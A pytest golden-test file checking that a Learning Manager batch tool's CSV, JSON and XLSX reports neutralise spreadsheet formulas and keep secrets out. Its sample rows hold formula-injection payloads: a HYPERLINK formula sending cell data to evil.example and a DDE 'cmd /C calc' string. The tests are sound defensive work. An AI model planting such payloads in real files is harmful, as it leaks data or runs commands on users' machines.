"""Golden tests: a fixed set of results, every status and every nasty cell, in every format.

CSV and failed-rows files are compared byte for byte with ``tests/golden/``; the JSON report is
compared as data (only the report paths, which depend on tmp_path, are normalised); the XLSX
report is read back with openpyxl and checked cell by cell.

Regenerate the golden files after an intended change with
``ALM_BATCH_UPDATE_GOLDEN=1 .venv/bin/python -m pytest -q tests/test_report_golden.py``
and review the diff.
"""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from batch.models import RowResult, RowStatus, RunSummary
from batch.reporting.writers import write_reports

GOLDEN = Path(__file__).parent / "golden"
UPDATE = os.environ.get("ALM_BATCH_UPDATE_GOLDEN") == "1"
COLUMNS = ["Email", "Course", "Completion Date", "Score", "Notes"]
MALICIOUS = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
SECRET = "s3cr3t-value-never-shown"


def _r(row: int, status: RowStatus, values: dict[str, str], **kw: Any) -> RowResult:
    return RowResult(row=row, values=values, status=status, **kw)


def sample_results() -> list[RowResult]:
    """Fourteen rows: every status but ``valid`` (offline only), accents, commas, quotes,
    newlines and formula bait."""
    return [
        _r(2, RowStatus.COMPLETED,
           {"Email": "renee.lowe@acme.com", "Course": "Sécurité incendie",
            "Completion Date": "2025-03-14", "Score": "87", "Notes": 'Said "ok", then left'},
           message="Completed: 2 modules graded.", user_id="user:11",
           course_id="course:101", instance_id="course:101_201",
           module_ids=["course:101_201_301", "course:101_201_302"],
           date_completed="2025-03-14T00:00:00.000Z", score="87",
           action="enroll + grade 2 modules", attempts=2, posted_at="2026-11-26T14:16:02+00:00"),
        _r(3, RowStatus.WOULD_COMPLETE,
           {"Email": "zoe@acme.com", "Course": "course:245", "Completion Date": "14/03/2025",
            "Score": "", "Notes": "line one\nline two"},
           message="Would grade 1 module.", user_id="user:12", course_id="course:245",
           instance_id="course:245_1", module_ids=["course:245_1_9"], action="grade 1 module",
           date_completed="2025-03-14T00:00:00.000Z"),
        _r(4, RowStatus.ALREADY_COMPLETED,
           {"Email": "ali@acme.com", "Course": "Fire Safety 2025", "Completion Date": "2025-01-02",
            "Score": "90", "Notes": "Ünïcödé ✓ 日本語"},
           message="ALM already shows this completion (2025-01-02).", user_id="user:13",
           course_id="course:7", instance_id="course:7_1", action="skip"),
        _r(5, RowStatus.DUPLICATE,
           {"Email": "renee.lowe@acme.com", "Course": "Sécurité incendie",
            "Completion Date": "2025-03-14", "Score": "87", "Notes": ""},
           message="Repeats row 2 (same learner and course): not posted twice.", action="skip"),
        _r(6, RowStatus.INVALID,
           {"Email": "bob@acme.com", "Course": "Fire Safety 2025", "Completion Date": "2025-02-30",
            "Score": "-2", "Notes": "-cmd|' /C calc'!A0"},
           message="column 'Score', row 6: '-2' is below the minimum 0. Fix the score."),
        _r(7, RowStatus.USER_NOT_FOUND,
           {"Email": "jane.doe@acme.com", "Course": "Fire Safety 2025",
            "Completion Date": "2025-03-01", "Score": "75", "Notes": ""},
           message="No ALM user has the email 'jane.doe@acme.com'. Check the spelling, "
           "or add the user to ALM first."),
        _r(8, RowStatus.COURSE_NOT_FOUND,
           {"Email": "ali@acme.com", "Course": "Fire Safety 2052", "Completion Date": "2025-03-01",
            "Score": "75", "Notes": ""},
           message="No course is named 'Fire Safety 2052'. Did you mean 'Fire Safety 2025'?",
           user_id="user:13"),
        _r(9, RowStatus.AMBIGUOUS_COURSE,
           {"Email": "ali@acme.com", "Course": "Safety Basics", "Completion Date": "2025-03-01",
            "Score": "75", "Notes": "a, b; c"},
           message="'Safety Basics' matches 2 courses: course:101 'Safety Basics' (en-US), "
           "course:245 'Safety Basics' (en-US). Use the course ID.", user_id="user:13"),
        _r(10, RowStatus.REJECTED,
           {"Email": "old@acme.com", "Course": "course:7", "Completion Date": "2025-03-01",
            "Score": "", "Notes": "@SUM(A1:A9)"},
           message="The learner 'old@acme.com' is suspended in ALM: reactivate them first.",
           user_id="user:99", course_id="course:7"),
        _r(11, RowStatus.FAILED,
           {"Email": "max@acme.com", "Course": "course:7", "Completion Date": "2025-03-01",
            "Score": "+1", "Notes": MALICIOUS},
           message="ALM refused the grade after 3 attempts: HTTP 400 Bad Request: dateCompleted.",
           user_id="user:14", course_id="course:7", instance_id="course:7_1",
           module_ids=["course:7_1_5"], action="grade 1 module", attempts=3),
        _r(12, RowStatus.UNKNOWN,
           {"Email": "eve@acme.com", "Course": "course:7", "Completion Date": "2025-03-01",
            "Score": "50", "Notes": "\tTabbed\r"},
           message="The answer to the grade was lost and ALM could not be re-read; "
           "run again to settle it.",
           user_id="user:15", course_id="course:7", instance_id="course:7_1",
           module_ids=["course:7_1_5"], action="grade 1 module", attempts=1),
        _r(13, RowStatus.COMPLETED,
           {"Email": "li@acme.com", "Course": "course:7", "Completion Date": "2025-03-01"},
           message="Completed: 1 module graded.", user_id="user:16", course_id="course:7",
           instance_id="course:7_1", module_ids=["course:7_1_5"], action="grade 1 module",
           attempts=1, posted_at="2026-11-26T14:16:09+00:00"),
        _r(14, RowStatus.NOT_COMPLETED,
           {"Email": "kim@acme.com", "Course": "course:7", "Completion Date": "",
            "Score": "", "Notes": "In Progress"},
           message="Transcript Status says 'In Progress': not a completion, nothing posted.",
           action="skip"),
        _r(15, RowStatus.NOT_RUN,
           {"Email": "ola@acme.com", "Course": "course:7", "Completion Date": "2025-03-01",
            "Score": "60", "Notes": ""},
           message="Not run: the run was cancelled; nothing was written for this row. Run the "
           "remaining rows (on the command line: the same command again) to send them.",
           user_id="user:17", course_id="course:7", instance_id="course:7_1",
           module_ids=["course:7_1_5"], action="grade 1 module", retryable=True),
    ]  # fmt: skip


def sample_summary() -> RunSummary:
    return RunSummary(
        run_id="run-20261126-141530-ab12",
        command="run",
        dry_run=False,
        input_path="/data/hr/completions.csv",
        input_sha256="9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        alm_host="https://learningmanager.adobe.com",
        started_at=datetime(2026, 11, 26, 14, 15, 30, tzinfo=UTC),
        ended_at=datetime(2026, 11, 26, 14, 17, 45, tzinfo=UTC),
        writes_planned=5,
        writes_made=4,
        api_calls={"GET /users": 3, "POST /users/{id}/userModuleGrade": 6},
        throttled=1,
        options={
            "concurrency": 4,
            "verify": False,
            "client_secret": SECRET,
            "refresh_token": SECRET,
        },
    )


def _write(tmp_path: Path, ext: str, input_format: str = "csv") -> tuple[Any, RunSummary]:
    summary = sample_summary()
    paths = write_reports(
        iter(sample_results()),
        columns=COLUMNS,
        summary=summary,
        input_path=tmp_path / f"completions.{input_format}",
        input_format=input_format,
        explicit=tmp_path / f"completions.report.{ext}",
        live=True,
    )
    return paths, summary


def _check_golden(name: str, actual: bytes) -> None:
    golden = GOLDEN / name
    if UPDATE:
        golden.parent.mkdir(exist_ok=True)
        golden.write_bytes(actual)
    assert actual == golden.read_bytes(), f"{name} differs from tests/golden/{name}"


def test_csv_report_matches_golden(tmp_path: Path) -> None:
    paths, _ = _write(tmp_path, "csv")
    _check_golden("report_sample.csv", paths.report.read_bytes())


def test_failed_rows_csv_matches_golden(tmp_path: Path) -> None:
    paths, _ = _write(tmp_path, "csv")
    assert paths.failed == tmp_path / "completions.failed.csv"
    _check_golden("report_sample.failed.csv", paths.failed.read_bytes())


def test_csv_report_has_bom_and_no_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    paths, _ = _write(tmp_path, "csv")
    raw = paths.report.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + len(sample_results())
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_row = {row[0]: row for row in rows[1:]}
    assert by_row["11"][5] == "'" + MALICIOUS
    assert by_row["11"][4] == "'+1"
    assert by_row["6"][4] == "'-2"
    assert by_row["10"][5] == "'@SUM(A1:A9)"
    assert by_row["3"][5] == "line one\nline two"


def _normalised_json(path: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    data["summary"]["report_paths"] = [Path(p).name for p in data["summary"]["report_paths"]]
    reports = data["summary"]["reports"]
    data["summary"]["reports"] = {k: Path(p).name if p else p for k, p in reports.items()}
    return data


def test_json_report_matches_golden(tmp_path: Path) -> None:
    paths, _ = _write(tmp_path, "json")
    data = _normalised_json(paths.report)
    golden = GOLDEN / "report_sample.json"
    if UPDATE:
        golden.write_text(json.dumps(data, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    assert data == json.loads(golden.read_text(encoding="utf-8"))
    # Raw values for programs: the formula bait is data, not neutralised.
    assert data["rows"][9]["values"]["Notes"] == MALICIOUS
    assert SECRET not in paths.report.read_text(encoding="utf-8")


def test_json_summary_counts_agree_with_rows(tmp_path: Path) -> None:
    paths, summary = _write(tmp_path, "json")
    data = json.loads(paths.report.read_text(encoding="utf-8"))
    from_rows: dict[str, int] = {}
    for row in data["rows"]:
        from_rows[row["status"]] = from_rows.get(row["status"], 0) + 1
    assert {k: v for k, v in data["summary"]["counts"].items() if v} == from_rows
    assert data["summary"]["rows"] == len(data["rows"]) == summary.rows == 14
    assert data["summary"]["exit_status"] == 1


# -- XLSX, read back cell by cell -----------------------------------------------------------------
# Fill colours as RGB: the alpha byte before them is the writer's ("00" or "FF"), and Excel
# ignores it for a solid fill.
GREEN, AMBER, RED = "C6EFCE", "FFEB9C", "FFC7CE"
EXPECTED_FILL = {
    "completed": GREEN, "would_complete": GREEN, "valid": GREEN, "already_completed": GREEN,
    "duplicate": AMBER, "not_completed": AMBER, "unknown": AMBER, "not_run": AMBER,
    "invalid": RED, "user_not_found": RED, "course_not_found": RED,
    "ambiguous_course": RED, "rejected": RED, "failed": RED,
}  # fmt: skip
HEADERS = [
    "row", *COLUMNS, "status", "message", "user_id", "course_id", "instance_id",
    "module_ids", "date_completed", "score (alm-batch)", "action", "attempts", "posted_at",
]  # fmt: skip


@pytest.fixture(scope="module")
def xlsx_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    paths, _ = _write(tmp_path_factory.mktemp("xlsx"), "xlsx")
    return Path(paths.report)


def test_xlsx_report_cells_match_the_results(xlsx_report: Path) -> None:
    ws = openpyxl.load_workbook(xlsx_report)["Report"]
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert len(rows) == 1 + len(sample_results())
    for got, result in zip(rows[1:], sample_results(), strict=True):
        expected = [
            result.row,
            *(result.values.get(c, "") or None for c in COLUMNS),
            result.status.value,
            result.message,
            *(v or None for v in (result.user_id, result.course_id, result.instance_id)),
            "; ".join(result.module_ids) or None,
            # The date and score to post are a real date (UTC) and a number.
            datetime.fromisoformat(result.date_completed.replace("Z", "+00:00")).replace(
                tzinfo=None
            )
            if result.date_completed
            else None,
            float(result.score) if result.score else None,
            result.action,
            result.attempts,
            # The tool's own times are real dates (UTC), not text.
            datetime.fromisoformat(result.posted_at).replace(tzinfo=None)
            if result.posted_at
            else None,
        ]
        expected = [v.replace("\r", "\n") if isinstance(v, str) else v for v in expected]
        assert list(got) == expected, f"row {result.row}"


def test_xlsx_formula_bait_stays_text(xlsx_report: Path) -> None:
    ws = openpyxl.load_workbook(xlsx_report)["Report"]
    cell = ws["F11"]  # Notes of spreadsheet row 11 (report row 11 = 10th result)
    assert cell.value == MALICIOUS
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert ws["E11"].value == "+1" and ws["E11"].data_type == "s"
    with zipfile.ZipFile(xlsx_report) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name)


def test_xlsx_status_cells_are_coloured(xlsx_report: Path) -> None:
    ws = openpyxl.load_workbook(xlsx_report)["Report"]
    status_col = HEADERS.index("status") + 1
    seen = set()
    for r in range(2, ws.max_row + 1):
        cell = ws.cell(row=r, column=status_col)
        assert cell.fill.fgColor.rgb[-6:] == EXPECTED_FILL[cell.value], cell.value
        seen.add(cell.value)
    # every status of a live run; ``valid`` (offline only) shares the green of test_severity_families
    assert seen == {s.value for s in RowStatus} - {"valid"}
    assert str(ws.cell(row=2, column=1).fill.fgColor.rgb)[-6:] != GREEN  # only the status cell


def test_xlsx_layout_frozen_filtered_and_fitted(xlsx_report: Path) -> None:
    ws = openpyxl.load_workbook(xlsx_report)["Report"]
    assert ws.freeze_panes == "B2"
    assert ws.auto_filter.ref == "A1:Q15"
    assert all(c.font.bold for c in ws[1])
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    assert widths["B"] >= len("renee.lowe@acme.com")
    assert widths["H"] > widths["A"]  # message wider than row


def test_xlsx_summary_sheet(xlsx_report: Path) -> None:
    wb = openpyxl.load_workbook(xlsx_report)
    assert wb.sheetnames == ["Report", "Summary"]
    pairs = {a: b for a, b in wb["Summary"].iter_rows(values_only=True) if a}
    assert pairs["Input file"] == "completions.csv"
    assert pairs["Input SHA-256"] == sample_summary().input_sha256
    assert pairs["ALM host"] == "https://learningmanager.adobe.com"
    assert pairs["Run id"] == "run-20261126-141530-ab12"
    assert pairs["Mode"] == "live"
    assert pairs["Started"] == "2026-11-26T14:15:30+00:00"
    assert pairs["Ended"] == "2026-11-26T14:17:45+00:00"
    assert pairs["Rows"] == 14
    assert pairs["completed"] == 2 and pairs["failed"] == 1 and pairs["duplicate"] == 1
    assert pairs["  concurrency"] == 4 and pairs["  verify"] == "no"
    assert pairs["Exit code"] == 1
    everything = [c for row in wb["Summary"].iter_rows(values_only=True) for c in row]
    assert not [c for c in everything if isinstance(c, str) and ("secret" in c or SECRET in c)]
    assert "  refresh_token" not in pairs


def test_xlsx_failed_rows_file_for_xlsx_input(tmp_path: Path) -> None:
    paths, _ = _write(tmp_path, "csv", input_format="xlsx")
    assert paths.failed == tmp_path / "completions.failed.xlsx"
    wb = openpyxl.load_workbook(paths.failed)
    ws = wb.worksheets[0]
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == [*COLUMNS, "status", "message"]
    expected = [r for r in sample_results() if not r.status.ok]
    assert [row[5] for row in rows[1:]] == [r.status.value for r in expected]
    assert rows[1 + 5][4] == MALICIOUS  # the input's own text, so it re-runs as is
    assert ws.cell(row=7, column=5).data_type == "s"
